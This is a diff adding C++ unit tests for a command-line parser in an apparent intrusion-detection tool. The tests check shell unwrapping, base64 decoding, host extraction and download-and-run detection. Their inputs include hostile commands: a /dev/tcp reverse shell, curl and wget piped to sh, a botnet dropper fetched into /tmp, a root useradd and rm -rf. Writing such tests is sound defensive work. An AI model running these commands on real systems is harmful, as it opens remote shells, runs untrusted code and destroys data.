@@ -1,0 +1,194 @@
+#include "detect/command/command.hpp"
+
+#include <gmock/gmock.h>
+#include <gtest/gtest.h>
+#include <rapidcheck.h>
+
+#include "base/bytes.hpp"
+
+namespace fieldwatch::detect {
+namespace {
+
+using ::testing::Contains;
+using ::testing::ElementsAre;
+
+std::vector<std::string> texts(std::string_view line) {
+    CommandLine command;
+    command.parse(line);
+    std::vector<std::string> out;
+    for (const auto& segment : command.segments())
+        out.emplace_back(command.text(segment));
+    return out;
+}
+
+std::vector<std::string> list(std::string_view line, CommandList which, std::size_t segment = 0,
+                              std::string_view working_directory = {}) {
+    CommandLine command;
+    command.parse(line, working_directory);
+    std::vector<std::string_view> values;
+    if (segment < command.segments().size()) command.list(command.segments()[segment], which, values);
+    return {values.begin(), values.end()};
+}
+
+bool any_has(std::string_view line, Fact fact, std::string_view working_directory = {}) {
+    CommandLine command;
+    command.parse(line, working_directory);
+    for (const auto& segment : command.segments()) {
+        if (segment.has(fact)) return true;
+    }
+    return false;
+}
+
+TEST(CommandLine, SplitsAtUnquotedOperatorsOnly) {
+    EXPECT_THAT(texts("a 1; b '2;3' && c || d | e & f\ng"),
+                ElementsAre("a 1", "b 2;3", "c", "d", "e", "f", "g"));
+    CommandLine command;
+    command.parse("a | b && c");
+    EXPECT_EQ(command.segments()[0].after, Operator::Pipe);
+    EXPECT_EQ(command.segments()[1].before, Operator::Pipe);
+    EXPECT_EQ(command.segments()[2].before, Operator::And);
+    EXPECT_EQ(command.segments()[0].pipeline, command.segments()[1].pipeline);
+    EXPECT_NE(command.segments()[1].pipeline, command.segments()[2].pipeline);
+}
+
+TEST(CommandLine, SeesThroughShellsAndWrappers) {
+    EXPECT_THAT(texts("sh -c \"echo cpuminer-multi\""),
+                ElementsAre("sh -c echo cpuminer-multi", "echo cpuminer-multi"));
+    EXPECT_THAT(texts("sudo -u root A=b env X=1 nice -n 5 timeout 10 nohup rm -rf /x"),
+                ElementsAre("rm -rf /x"));
+    EXPECT_THAT(texts("busybox sh -c 'id; w'"), ElementsAre("sh -c id; w", "id", "w"));
+    EXPECT_THAT(list("nohup /tmp/x", CommandList::Wrappers), ElementsAre("nohup"));
+    EXPECT_THAT(texts("find / -name x -exec rm -f {} \\;"), Contains("rm -f {}"));
+}
+
+TEST(CommandLine, MendsShellTextWhoseQuotesTheAgentLost) {
+    EXPECT_THAT(texts("/bin/sh -c ip -a -o link"), Contains("ip -a -o link"));
+}
+
+TEST(CommandLine, UnwrapsFiveDeepAndNoDeeper) {
+    EXPECT_THAT(texts("eval eval eval eval eval id"), Contains("id"));
+    CommandLine command;
+    command.parse("eval eval eval eval eval eval id");
+    EXPECT_TRUE(command.truncated());
+}
+
+TEST(CommandLine, DecodesBase64OnItsWayToAShell) {
+    const auto encoded = base64(as_bytes("wget http://203.0.113.9/a"));
+    EXPECT_THAT(texts("echo " + encoded + " | base64 -d | sh"), Contains("wget http://203.0.113.9/a"));
+    EXPECT_THAT(texts("base64 -d <<< '" + encoded + "' | bash"), Contains("wget http://203.0.113.9/a"));
+    EXPECT_THAT(texts("bash -c \"$(echo " + encoded + " | base64 --decode)\""),
+                Contains("wget http://203.0.113.9/a"));
+    EXPECT_THAT(texts("echo " + encoded + " | base64 -d > file"),
+                ::testing::Not(Contains("wget http://203.0.113.9/a")));
+}
+
+TEST(CommandLine, TakesOptionClustersApart) {
+    EXPECT_THAT(list("rm -rf x", CommandList::Options), ElementsAre("-rf", "-r", "-f"));
+    EXPECT_THAT(list("rm --recursive --force=1 x", CommandList::Options),
+                ElementsAre("--recursive", "--force"));
+    EXPECT_THAT(list("useradd --uid=0 -G sudo -p1 x", CommandList::Settings),
+                ::testing::IsSupersetOf({"--uid 0", "-G sudo", "-p 1"}));
+}
+
+TEST(CommandLine, NormalisesPaths) {
+    const auto normal = [](std::string_view path) {
+        std::string out;
+        normalise_path(path, out);
+        return out;
+    };
+    EXPECT_EQ(normal("//var//./log/../log/wtmp"), "/var/log/wtmp");
+    EXPECT_EQ(normal("~/.ssh/"), "/root/.ssh");
+    EXPECT_EQ(normal("/../.."), "/");
+    EXPECT_EQ(normal("../a/../b"), "../b");
+    EXPECT_EQ(normal("./x"), "x");
+    EXPECT_THAT(list("cat ./x", CommandList::Paths, 0, "/tmp"), ElementsAre("/tmp/x"));
+    EXPECT_THAT(list("dd if=/dev/null of=/var//log/a", CommandList::Paths),
+                ElementsAre("/dev/null", "/var/log/a"));
+}
+
+TEST(CommandLine, FindsHosts) {
+    EXPECT_THAT(list("wget -q http://u:p@evil.example:8080/a.sh", CommandList::Hosts),
+                ElementsAre("evil.example"));
+    EXPECT_THAT(list("ssh -R 80:localhost:80 user@203.0.113.4", CommandList::Hosts),
+                ElementsAre("203.0.113.4"));
+    EXPECT_THAT(list("cat a.sh", CommandList::Hosts), ElementsAre());
+    EXPECT_THAT(list("bash -i >& /dev/tcp/8.8.4.4/1", CommandList::ExternalHosts), ElementsAre("8.8.4.4"));
+    EXPECT_THAT(list("curl http://192.168.1.2/ http://[fc00::1]/", CommandList::ExternalHosts),
+                ElementsAre());
+}
+
+TEST(CommandLine, KnowsWhatALineDownloadsAndRuns) {
+    for (const std::string_view line :
+         {"curl -s http://x.example/a | sh", "wget -qO- http://x.example/a | sudo python3 -",
+          "sh <(curl http://x.example/a)", "sh -c \"$(curl http://x.example/a)\"",
+          "cd /tmp; wget http://x.example/bot.arm; chmod 777 bot.arm; ./bot.arm telnet",
+          "tftp -g -r m.sh 203.0.113.4; sh m.sh",
+          "/bin/busybox wget http://x.example/a -O /tmp/b && sh /tmp/b",
+          "sh -c 'curl -o /tmp/x http://x.example/y; chmod +x /tmp/x; /tmp/x'"}) {
+        EXPECT_TRUE(any_has(line, Fact::RunsDownload)) << line;
+    }
+    for (const std::string_view line :
+         {"curl -s http://x.example/a | jq .", "wget http://x.example/a.tar.gz; tar xf a.tar.gz",
+          "bash -c \"echo $(curl http://x.example/ip)\"", "curl http://x.example/a | python3 -m json.tool"}) {
+        EXPECT_FALSE(any_has(line, Fact::RunsDownload)) << line;
+    }
+}
+
+TEST(CommandLine, KnowsScriptsAndTheirInterpreters) {
+    EXPECT_TRUE(any_has("python /tmp/a.sh", Fact::ScriptMismatch));
+    EXPECT_TRUE(any_has("bash photo.jpg", Fact::ScriptMismatch));
+    EXPECT_TRUE(any_has("sh /tmp/notes.txt", Fact::ScriptMismatch));
+    EXPECT_FALSE(any_has("sh /home/a/notes.txt", Fact::ScriptMismatch));
+    EXPECT_FALSE(any_has("python3 -m http.server", Fact::ScriptMismatch));
+    EXPECT_FALSE(any_has("bash run", Fact::ScriptMismatch));
+    EXPECT_TRUE(any_has("./x", Fact::RunsFromTemp, "/tmp"));
+    EXPECT_TRUE(any_has("'/tmp/report.pdf ' a", Fact::TrailingSpace));
+    EXPECT_TRUE(any_has("/tmp/report.pdf\xc2\xa0", Fact::TrailingSpace));
+    EXPECT_FALSE(any_has("ip link ", Fact::TrailingSpace));
+}
+
+TEST(Address, ClassesFollowTheSpecification) {
+    const auto of = [](std::string_view text) { return classify(*parse_address(text)); };
+    EXPECT_EQ(of("10.1.2.3"), AddressClass::Private);
+    EXPECT_EQ(of("172.32.0.1"), AddressClass::External);
+    EXPECT_EQ(of("100.127.255.255"), AddressClass::CarrierGrade);
+    EXPECT_EQ(of("::ffff:192.168.0.1"), AddressClass::Private);
+    EXPECT_EQ(of("fd00::1"), AddressClass::UniqueLocal);
+    EXPECT_EQ(of("2a00::1"), AddressClass::External);
+    EXPECT_TRUE(is_external("evil.example", {}));
+    EXPECT_FALSE(is_external("nas", {}));
+    EXPECT_FALSE(is_external("nas.lan", {.local_suffixes = {"lan"}}));
+    EXPECT_FALSE(is_external("203.0.113.5", {}));
+    EXPECT_TRUE(is_external("203.0.113.5", {.documentation_is_external = true}));
+    EXPECT_TRUE(is_local_login("?"));
+    EXPECT_TRUE(is_local_login("127.3.2.1"));
+    EXPECT_FALSE(is_local_login("10.0.0.1"));
+    EXPECT_FALSE(parse_prefix("10.0.0.0/33").has_value());
+}
+
+TEST(CommandLine, AnyBytesStayInBounds) {
+    rc::check([](const std::string& line) {
+        CommandLine command;
+        command.parse(line);
+        RC_ASSERT(command.segments().size() <= CommandLine::kSegmentsMax);
+    });
+}
+
+TEST(CommandLine, WordsSurviveSingleQuoting) {
+    rc::check([](const std::vector<std::string>& words) {
+        std::string line = "cmd";
+        for (const auto& word : words) {
+            RC_PRE(word.find('\'') == std::string::npos && word.find('\0') == std::string::npos);
+            line += " '" + word + "'";
+        }
+        CommandLine command;
+        command.parse(line);
+        const auto argv = command.argv(command.segments()[0]);
+        RC_ASSERT(argv.size() == words.size() + 1);
+        for (std::size_t i = 0; i < words.size(); ++i)
+            RC_ASSERT(argv[i + 1] == words[i]);
+    });
+}
+
+}  // namespace
+}  // namespace fieldwatch::detect
